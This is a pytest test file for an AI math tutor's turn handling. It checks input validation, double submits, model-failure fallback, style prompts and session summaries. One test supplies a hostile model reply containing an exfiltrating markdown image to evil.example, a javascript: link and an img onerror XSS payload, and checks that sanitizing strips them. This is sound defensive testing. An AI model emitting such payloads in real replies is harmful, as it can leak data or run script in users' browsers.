"""A turn's promises: bad input stores nothing, a double submit records once, a failing or
missing model never loses the student's message, model text is cleaned, style tailors."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from sqlalchemy import func, select

import students_db as db
from prompts import GenerationRequest
from students_db import models
from tests import test_tutor_fixtures
from tests.test_tutor_fixtures import make_school
from tutor import reports
from tutor.curriculum import load_default_pack
from tutor.dialogue import texts
from tutor.dialogue.state import UnknownStudent
from tutor.generation import ScriptedGenerator, UnavailableGenerator
from tutor.tutor import MessageRejected, Tutor

sessions = test_tutor_fixtures.sessions  # the shared fixture


@pytest.fixture(scope="module")
def pack():  # type: ignore[no-untyped-def]
    return load_default_pack()


def _count(sessions: db.SessionFactory, table: type) -> int:
    with db.read_session(sessions) as s:
        return s.scalar(select(func.count()).select_from(table)) or 0


def _messages(sessions: db.SessionFactory, student: int) -> list[db.MessageRecord]:
    with db.read_session(sessions) as s:
        return db.recent_messages(session=s, student_id=student, limit=100)


def _exercise(sessions: db.SessionFactory, pack, student: int):  # type: ignore[no-untyped-def]
    with db.read_session(sessions) as s:
        active = db.get_active_exercise(session=s, student_id=student)
    return pack.exercise_by_id(active.exercise_id, active.seed)


def _tutor(sessions, pack, generator=None) -> Tutor:  # type: ignore[no-untyped-def]
    return Tutor(
        sessions=sessions,
        pack=pack,
        generator=generator or UnavailableGenerator(),
        max_message_chars=50,
        seed=1,
    )


@pytest.mark.parametrize(
    "message", ["", "   \n\t", "x" * 51, "3/4\x00", "3/4 \ud800", None, 34], ids=repr
)
def test_bad_messages_are_rejected_and_nothing_is_stored(
    sessions: db.SessionFactory,
    pack,  # type: ignore[no-untyped-def]
    message: object,
) -> None:
    (student,) = make_school(sessions, students=1).student_ids
    with pytest.raises(MessageRejected) as rejected:
        _tutor(sessions, pack).respond(student, message)  # type: ignore[arg-type]
    assert str(rejected.value)  # a sentence for the student
    assert _count(sessions, models.Message) == 0
    assert _count(sessions, models.ChatSession) == 0


def test_text_that_cleans_to_nothing_is_rejected(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    (student,) = make_school(sessions, students=1).student_ids
    with pytest.raises(MessageRejected):
        _tutor(sessions, pack).respond(student, "\u200b\u202e<student>")
    assert _count(sessions, models.Message) == 0


def test_unknown_student_is_refused(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    make_school(sessions, students=1)
    with pytest.raises(UnknownStudent):
        _tutor(sessions, pack).respond(999, "hello")


def test_a_double_submit_records_one_attempt_and_the_same_verdict(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    (student,) = make_school(sessions, students=1).student_ids
    with db.write_session(sessions) as s:  # practised before: no placement item comes first
        db.set_skill_state(
            session=s, student_id=student, skill_key="whole.place_value", p_known=0.3, correct=None
        )
    tutor = _tutor(sessions, pack)
    "".join(tutor.new_exercise(student))
    exercise = _exercise(sessions, pack, student)
    wrong = f"{exercise.answer_text}1" if exercise.answer.kind == "number" else "1"
    first = "".join(tutor.respond(student, wrong, submission_id="tab-1"))
    again = "".join(tutor.respond(student, wrong, submission_id="tab-1"))
    assert first.startswith("Not quite") and again.startswith(texts.ALREADY_RECORDED)
    assert "Not quite" in again
    assert _count(sessions, models.Attempt) == 1
    with db.read_session(sessions) as s:
        active = db.get_active_exercise(session=s, student_id=student)
    assert active.wrong_attempts == 1
    assert len(_messages(sessions, student)) == 4  # the resubmission stored no new messages


def test_a_malformed_answer_is_explained_and_records_no_attempt(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    (student,) = make_school(sessions, students=1).student_ids
    tutor = _tutor(sessions, pack)
    "".join(tutor.new_exercise(student))
    reply = "".join(tutor.respond(student, "3/0"))
    assert reply.startswith("I could not read that as an answer")
    assert _count(sessions, models.Attempt) == 0
    assert [m.role for m in _messages(sessions, student)][-2:] == ["student", "tutor"]


def test_model_failing_midway_keeps_the_message_and_falls_back_to_the_plan(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    """Model words are verified whole against their plan before anything is shown (issue 10),
    so a model that breaks midway shows nothing of its own: the plan's template stands in."""
    (student,) = make_school(sessions, students=1).student_ids

    def breaks(request: GenerationRequest) -> Iterator[str]:
        yield "Fractions are "
        yield "parts of "
        raise RuntimeError("CUDA out of memory")

    tutor = _tutor(sessions, pack, ScriptedGenerator([breaks]))
    reply = "".join(tutor.respond(student, "what is a fraction?"))
    assert "Fractions are parts of" not in reply and "fraction" in reply.lower()
    student_msg, tutor_msg = _messages(sessions, student)
    assert (student_msg.role, student_msg.text, student_msg.status) == (
        "student",
        "what is a fraction?",
        "ok",
    )
    assert tutor_msg.status == "fallback" and tutor_msg.text == reply.strip()


def test_model_failing_before_any_text_falls_back_with_one_notice(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    (student,) = make_school(sessions, students=1).student_ids

    def refuses(request: GenerationRequest) -> Iterator[str]:
        raise RuntimeError("adapter missing")
        yield ""  # pragma: no cover - makes this a generator

    tutor = _tutor(sessions, pack, ScriptedGenerator(default=refuses))
    first = "".join(tutor.respond(student, "what is a fraction?"))
    second = "".join(tutor.respond(student, "and a decimal?"))
    assert texts.MODEL_OFF_NOTICE in first and texts.MODEL_OFF_NOTICE not in second
    assert "decimal" in second.lower()  # the concept bank answers; no "ask your teacher"
    assert [m.status for m in _messages(sessions, student) if m.role == "tutor"] == [
        "fallback",
        "fallback",
    ]


def test_without_a_model_every_reply_is_a_template_and_the_notice_comes_once_a_session(
    sessions,
    pack,  # type: ignore[no-untyped-def]
) -> None:
    (student,) = make_school(sessions, students=1).student_ids
    tutor = _tutor(sessions, pack)
    replies = ["".join(tutor.new_exercise(student)), "".join(tutor.hint(student))]
    replies.append("".join(tutor.explain_again(student)))
    assert sum(texts.MODEL_OFF_NOTICE in r for r in replies) == 1
    assert not tutor.progress(student).model_available
    summary = tutor.end_session(student)
    assert summary is not None and summary.hints_used == 1
    again = "".join(tutor.hint(student))
    assert texts.MODEL_OFF_NOTICE in again  # a new chat session says it again


def test_model_text_loses_images_and_links(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    (student,) = make_school(sessions, students=1).student_ids
    evil = (
        "A fraction ![x](https://evil.example/?q=secret) is a [part](javascript:alert(1)) "
        "of a whole, see https://evil.example/more <img src=x onerror=alert(1)> now."
    )
    tutor = _tutor(sessions, pack, ScriptedGenerator([evil]))
    reply = "".join(tutor.respond(student, "what is a fraction?"))
    stored = _messages(sessions, student)[-1].text
    for text in (reply, stored):
        assert "evil" not in text and "javascript" not in text and "<img" not in text
        assert "A fraction" in text and "part" in text and "of a whole" in text


def test_exercise_wording_with_other_numbers_is_replaced_by_the_template(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    (student,) = make_school(sessions, students=1).student_ids
    tutor = _tutor(sessions, pack, ScriptedGenerator(default="What is 123456 + 654321?"))
    reply = "".join(tutor.new_exercise(student))
    exercise = _exercise(sessions, pack, student)
    assert "123456" not in reply and exercise.statement in reply


def test_the_preferred_style_reaches_the_prompt(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    (student,) = make_school(sessions, students=1).student_ids
    generator = ScriptedGenerator(default="Think of a pizza cut into equal slices.")
    tutor = _tutor(sessions, pack, generator)
    with pytest.raises(ValueError):
        tutor.set_style(student, "rap")
    tutor.set_style(student, "short")
    "".join(tutor.respond(student, "what is a fraction?"))
    prompt = generator.requests[-1].prompt
    assert "Style: short" in prompt and "Grade: 5" in prompt


def test_an_abandoned_reply_is_stored_as_failed(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    (student,) = make_school(sessions, students=1).student_ids
    tutor = _tutor(sessions, pack, ScriptedGenerator(default="one two three four five six"))
    stream = tutor.respond(student, "what is a fraction?")
    assert _messages(sessions, student)[-1].status == "pending"  # committed before streaming
    next(stream)
    stream.close()  # the browser went away
    assert _messages(sessions, student)[-1].status == "failed"


def test_history_progress_and_the_stored_summary(sessions, pack) -> None:  # type: ignore[no-untyped-def]
    school = make_school(sessions, students=1)
    (student,) = school.student_ids
    tutor = _tutor(sessions, pack)
    fresh = tutor.progress(student)
    assert fresh.current_skill is None and len(fresh.mastery) == len(pack.skills)
    "".join(tutor.new_exercise(student))
    exercise = _exercise(sessions, pack, student)
    "".join(tutor.respond(student, exercise.answer_text))
    history = tutor.history(student, limit=10)
    assert [h.role for h in history] == ["student", "tutor"] * 2
    assert history[2].text == exercise.answer_text
    summary = tutor.end_session(student)
    assert summary is not None and (summary.attempts, summary.correct) == (1, 1)
    assert tutor.end_session(student) is None
    with db.write_session(sessions) as s:
        (row,) = reports.session_summaries(
            session=s, teacher_id=school.teacher_id, student_id=student
        )
    assert row.summary["accuracy"] == 1.0 and row.summary["text"] == summary.text
    assert json.loads(json.dumps(row.summary)) == row.summary
